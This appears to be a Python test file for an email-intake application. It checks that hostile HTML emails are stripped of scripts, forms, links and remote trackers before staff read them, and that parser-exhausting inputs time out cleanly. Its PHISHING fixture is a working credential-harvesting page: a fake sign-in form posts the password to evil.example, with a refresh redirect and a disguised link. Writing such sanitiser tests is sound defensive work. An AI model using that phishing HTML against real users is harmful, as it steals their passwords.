"""Emails that mean harm, through the whole application: what officers get to see of them, and that pages go on.

What is cleaned away is tested in `tests/mail/test_showing.py`; what a browser does with the rest, in
`test_browser_emails.py`.
"""

from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, contextmanager
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from intake.store.emails import InboundEmail
from intake.web.emails import EmailNotShown, EmailReader
from tests.building import raw_email, raw_lines
from tests.mail.test_showing import HOSTILE, PNG
from tests.office import Office, open_office
from tests.people import BEN, REVIEW
from tests.web.desk import Desk, open_desk

PHISHING = (
    '<base href="https://evil.example/" target="_top"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
    "<h1>Your session has ended</h1><form action='https://evil.example/steal' method='post' target='_top'>"
    "<label>Password <input type='password' name='password' autofocus></label><button>Sign in</button></form>"
    '<a href="https://evil.example/sign-in" target="_top">https://intake.county.example/sign-in</a>'
)


def test_every_trick_at_once_leaves_only_its_words(tmp_path: Path) -> None:
    with _received("".join(HOSTILE) + "<p>the last words</p>", tmp_path) as desk:
        page = LexborHTMLParser(desk.asha.get("/emails/1/html").text)
    letter = page.css_first(".letter")
    assert letter is not None
    for forbidden in ("script", "style", "link", "meta", "base", "form", "input", "button", "iframe", "svg", "math"):
        assert not letter.css(forbidden)
    assert not letter.css("[onerror], [onload], [href], [srcset], [target], [background], [id], [name], [action]")
    assert not [one for one in letter.css("[src]") if not (one.attributes["src"] or "").startswith("data:image/")]


def test_phishing_shows_where_its_link_leads_and_asks_for_nothing(tmp_path: Path) -> None:
    with _received(PHISHING, tmp_path) as desk:
        shown = desk.asha.get("/emails/1/html").text
    letter = LexborHTMLParser(shown).css_first(".letter")
    assert letter is not None
    assert "https://intake.county.example/sign-in [https://evil.example/sign-in]" in letter.text()
    assert not letter.css("a, form, input, button, label")
    assert shown.count("<meta") == 2  # ours: character set and width
    assert "<base" not in shown


def test_remote_pictures_are_told_and_own_ones_shown(tmp_path: Path) -> None:
    html = '<img src="https://tracker.example/1.gif"><img src="https://tracker.example/2.gif"><img src="cid:logo@x">'
    raw = raw_lines(
        *("From: ben@school.example", f"To: {REVIEW}", "Subject: Pictures", "Message-ID: <p@school.example>"),
        *("MIME-Version: 1.0", "Content-Type: multipart/related; boundary=B", ""),
        *("--B", "Content-Type: text/html", "", f"<p>We agree.</p>{html}"),
        *(
            "--B",
            "Content-Type: image/png",
            "Content-ID: <logo@x>",
            "Content-Transfer-Encoding: 8bit",
            "",
            PNG,
            "--B--",
        ),
    )
    with _desk(tmp_path, raw) as desk:
        shown = desk.asha.get("/emails/1/html").text
    assert "2 remote pictures were not loaded" in shown
    assert "tracker.example" not in shown
    assert shown.count("data:image/png;base64,") == 1


def test_five_megabytes_are_cut_and_the_frame_says_so(tmp_path: Path) -> None:
    with _received("<p>words</p>", tmp_path) as desk:
        letter = _letter("<p>words</p>" * 420_000)
        with desk.office.database.transaction() as session:
            session.get_one(InboundEmail, 1).raw_sha256 = _stored(desk.office, letter).raw_sha256
        shown = desk.asha.get("/emails/1/html").text
    assert "only its beginning is shown" in shown
    assert len(shown) < 3_000_000


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<div>" * 150_000 + "words", id="takes too long"),
        pytest.param(f"<p>{''.join(f'<font size={n}>' for n in range(300))}</p>" + "<p>x</p>" * 3_000, id="multiplies"),
    ],
)
def test_what_cannot_be_made_safe_in_time_is_not_shown_and_the_next_is(tmp_path: Path, html: str) -> None:
    with open_office(tmp_path) as office, closing(EmailReader(office.this, seconds=2)) as reader:
        hostile, ordinary = (_stored(office, raw) for raw in (_letter(html), raw_email(text="Ordinary words.")))
        with pytest.raises(EmailNotShown, match="download the original"):
            reader.body(hostile)
        assert reader.body(ordinary).text == "Ordinary words."


def test_many_officers_read_at_once(tmp_path: Path) -> None:
    with open_office(tmp_path) as office, closing(EmailReader(office.this)) as reader:
        emails = [_stored(office, raw_email(text=f"Letter {number}.")) for number in range(4)] * 5
        with ThreadPoolExecutor(8) as officers:
            shown = list(officers.map(reader.body, emails))
    assert [one.text for one in shown] == [f"Letter {number}." for number in range(4)] * 5


def _stored(office: Office, raw: bytes) -> InboundEmail:
    [sha256] = office.files.put_many([raw])
    return InboundEmail(id=1, raw_sha256=sha256, size=len(raw), collected_at=office.now)


@contextmanager
def _desk(folder: Path, *raws: bytes) -> Iterator[Desk]:
    with open_desk(folder) as desk:
        for raw in raws:
            desk.office.receive(raw)
        desk.office.cycle()
        yield desk


def _letter(html: str) -> bytes:
    # Its text is plain, so that only the HTML is hard to read.
    return raw_email(sender=BEN, to=REVIEW, text="words " * 60, html=f"<html><body>{html}</body></html>")


@contextmanager
def _received(html: str, folder: Path) -> Iterator[Desk]:
    with _desk(folder, _letter(html)) as desk:
        yield desk
